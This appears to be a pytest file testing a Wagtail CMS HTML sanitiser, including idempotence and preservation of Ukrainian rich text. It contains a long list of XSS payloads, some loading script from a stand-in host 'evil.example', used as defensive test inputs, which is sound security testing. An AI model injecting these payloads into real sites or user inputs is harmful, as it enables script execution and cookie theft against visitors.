"""The one HTML sanitiser: XSS vectors, Wagtail's storage format, idempotence.

Pure logic: no database except where Wagtail's link expansion needs a page.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from wagtail.rich_text import expand_db_html

import pytest

from cms_pages.sanitize import (
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    sanitize_html,
    strip_tags,
)

# Attributes whose value a browser (or Wagtail's rich text rewriter) treats as a URL.
URL_ATTRIBUTES = {"href", "src", "url", "action", "formaction", "xlink:href"}
# Every attribute the allow-list may keep; none of them can run script by itself.
HARMLESS_ATTRIBUTES = {
    "href", "title", "linktype", "id", "lang", "embedtype", "format", "alt", "url",
    "scope", "colspan", "rowspan",
}  # fmt: skip
CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f]+")

XSS_VECTORS = [
    # script tags, in every spelling
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type='module'>import('//evil.example')</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<img src=x onerror=alert(1)//<",
    "<p>before<script>document.cookie</script>after</p>",
    # event handlers
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
    '<body onload="alert(1)">',
    "<x onclick=alert(1)>custom element</x>",
    '<strong ONCLICK="alert(1)">shout</strong>',
    # javascript:, obfuscated javascript:, data:, vbscript: in href
    '<a href="javascript:alert(1)">j</a>',
    '<a href="JaVaScRiPt:alert(1)">j</a>',
    '<a href="jav&#x0D;ascript:alert(1)">j</a>',
    '<a href="jav&#x09;ascript:alert(1)">j</a>',
    '<a href="jav\tascript:alert(1)">j</a>',
    '<a href="java\x00script:alert(1)">j</a>',
    '<a href="&#106;avascript:alert(1)">j</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">j</a>',
    '<a href="javascript&colon;alert(1)">j</a>',
    '<a href="  javascript:alert(1)">j</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<a href="javascript:alert(1)" title="<script>alert(1)</script>">t</a>',
    # Wagtail's own storage tags abused
    '<embed embedtype="media" url="javascript:alert(1)"/>',
    '<embed embedtype="media" url="data:text/html,<script>alert(1)</script>"/>',
    '<embed src="javascript:alert(1)">',
    '<a linktype="page" id="3" href="javascript:alert(1)" onclick="x()">p</a>',
    # style
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{background:url(javascript:alert(1))}</style><p>x</p>",
    '<td style="x" colspan="2">cell</td>',
    '<span style="position:fixed;inset:0">overlay</span>',
    # svg / math / namespace confusion
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">m</math>',
    # comments and conditional comments
    "<!--<script>alert(1)</script>--><p>after comment</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p>a<!-- x --></p>",
    # iframes, objects, frames, meta, base
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # forms and formaction
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<form><input name="password" autofocus onfocus="alert(1)"></form>',
    # mutation XSS classics
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" target="_blank">tab-nabbing</a>',
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)


def _parse(html: str) -> _Collector:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser


def _url_is_safe(value: str | None) -> bool:
    """Relative, or one of the allowed protocols, the way a browser reads it."""
    cleaned = CONTROL_AND_SPACE.sub("", value or "")
    scheme = urlsplit(cleaned).scheme.lower()
    return scheme == "" or scheme in {"http", "https", "mailto", "tel"}


def assert_safe(html: str) -> None:
    """The sanitiser's contract, stated as a property of its output."""
    parsed = _parse(html)
    assert parsed.comments == [], html
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, html)
            assert name != "style", (tag, html)
            assert name in HARMLESS_ATTRIBUTES, (tag, name, html)
            if name in URL_ATTRIBUTES:
                assert _url_is_safe(value), (tag, name, value, html)


class TestPropertyCheckItself:
    """The property must be able to fail, or it proves nothing."""

    @pytest.mark.parametrize(
        "unsafe",
        [
            "<script>alert(1)</script>",
            '<p onclick="x">a</p>',
            '<p style="x">a</p>',
            '<a href="javascript:alert(1)">a</a>',
            '<a href="jav&#x0D;ascript:alert(1)">a</a>',
            '<embed embedtype="media" url="javascript:alert(1)">',
            "<!-- c --><p>a</p>",
            "<iframe></iframe>",
        ],
    )
    def test_raw_vectors_fail_the_property(self, unsafe):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


class TestXssVectors:
    @pytest.mark.parametrize("vector", XSS_VECTORS)
    def test_output_satisfies_the_allow_list(self, vector):
        assert_safe(sanitize_html(vector))

    @pytest.mark.parametrize("vector", XSS_VECTORS)
    def test_no_executable_markup_survives(self, vector):
        out = sanitize_html(vector).lower()
        assert "<script" not in out
        assert "<iframe" not in out
        assert "<svg" not in out
        assert "<math" not in out
        assert "<form" not in out
        assert "<style" not in out

    @pytest.mark.parametrize("vector", XSS_VECTORS)
    def test_sanitising_is_idempotent(self, vector):
        once = sanitize_html(vector)
        assert sanitize_html(once) == once

    def test_script_text_is_not_kept_as_markup(self):
        out = sanitize_html("<p>before<script>alert(1)</script>after</p>")
        assert out.startswith("<p>before")
        assert out.endswith("after</p>")
        assert "<script" not in out

    def test_handlers_removed_but_element_and_text_kept(self):
        out = sanitize_html('<p onclick="alert(1)" style="color:red">Текст</p>')
        assert out == "<p>Текст</p>"

    def test_javascript_href_dropped_link_text_kept(self):
        assert sanitize_html('<a href="javascript:alert(1)">посилання</a>') == (
            "<a>посилання</a>"
        )

    def test_media_embed_url_must_use_an_allowed_protocol(self):
        out = sanitize_html('<embed embedtype="media" url="javascript:alert(1)"/>')
        assert "javascript" not in out
        assert 'embedtype="media"' in out


class TestAllowedContentSurvives:
    @pytest.mark.parametrize(
        "href",
        [
            "https://zakon.rada.gov.ua/laws/show/280/97-вр",
            "http://example.org/",
            "mailto:info@example.org",
            "tel:+380441234567",
            "/programmes/",
            "#section-2",
            "../relative/",
        ],
    )
    def test_safe_links_are_kept(self, href):
        out = sanitize_html(f'<a href="{href}">x</a>')
        parsed = _parse(out)
        assert parsed.tags == [("a", [("href", href)])]

    def test_allowed_protocols_are_the_documented_ones(self):
        assert frozenset({"http", "https", "mailto", "tel"}) == ALLOWED_PROTOCOLS

    def test_wagtail_page_link_survives(self):
        html = '<p><a linktype="page" id="3">Про нас</a></p>'
        assert sanitize_html(html) == html

    def test_wagtail_document_link_survives(self):
        html = '<a linktype="document" id="12">Положення</a>'
        assert sanitize_html(html) == html

    def test_wagtail_image_embed_survives(self):
        out = sanitize_html('<embed embedtype="image" id="1" format="left" alt="x"/>')
        assert _parse(out).tags == [
            (
                "embed",
                [("embedtype", "image"), ("id", "1"), ("format", "left"), ("alt", "x")],
            )
        ]

    def test_wagtail_media_embed_survives(self):
        url = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
        out = sanitize_html(f'<embed embedtype="media" url="{url}"/>')
        assert _parse(out).tags == [("embed", [("embedtype", "media"), ("url", url)])]

    def test_cyrillic_and_apostrophes_survive(self):
        html = "<p>Громадськість з’їзду, пʼять ініціатив — «бюджет участі» ЄЇҐ</p>"
        assert sanitize_html(html) == html
        assert "ʼ" in sanitize_html("<p>обʼєднана громада</p>")

    def test_rich_formatting_survives(self):
        html = (
            "<h3>Етапи</h3><ol><li><strong>Подання</strong></li>"
            "<li><em>Голосування</em></li></ol><p>H<sub>2</sub>O x<sup>2</sup></p>"
        )
        assert sanitize_html(html) == html

    def test_table_attributes_survive(self):
        html = (
            "<table><caption>Інструменти</caption><thead><tr>"
            '<th scope="col">Назва</th></tr></thead><tbody><tr>'
            '<td colspan="2">Петиція</td></tr></tbody></table>'
        )
        assert sanitize_html(html) == html

    @pytest.mark.parametrize("empty", [None, ""])
    def test_empty_input_gives_empty_string(self, empty):
        assert sanitize_html(empty) == ""


@pytest.mark.django_db
def test_sanitised_page_link_still_expands_to_the_page_url(home):
    """Wagtail can still resolve a link after the sanitiser has seen it."""
    out = sanitize_html(f'<p><a linktype="page" id="{home.pk}">Головна</a></p>')
    expanded = expand_db_html(out)
    assert f'href="{home.url}"' in expanded
    assert "linktype" not in expanded


class TestStripTags:
    def test_removes_every_tag_and_keeps_text(self):
        out = strip_tags(
            '<p>Привіт, <strong>громадо</strong>! <a href="/x">Так</a></p>'
        )
        assert out == "Привіт, громадо! Так"

    def test_removes_scripts_as_markup(self):
        out = strip_tags('<p onclick="x">a<script>alert(1)</script>b</p>')
        assert "<" not in out
        assert ">" not in out
        assert out.startswith("a")
        assert out.endswith("b")

    def test_keeps_apostrophes(self):
        assert strip_tags("<p>пʼять м’ячів</p>") == "пʼять м’ячів"

    def test_output_is_safe_to_place_in_html(self):
        assert "<" not in strip_tags("<<script>script>alert(1)<</script>/script>")

    @pytest.mark.parametrize("empty", [None, ""])
    def test_empty_input_gives_empty_string(self, empty):
        assert strip_tags(empty) == ""
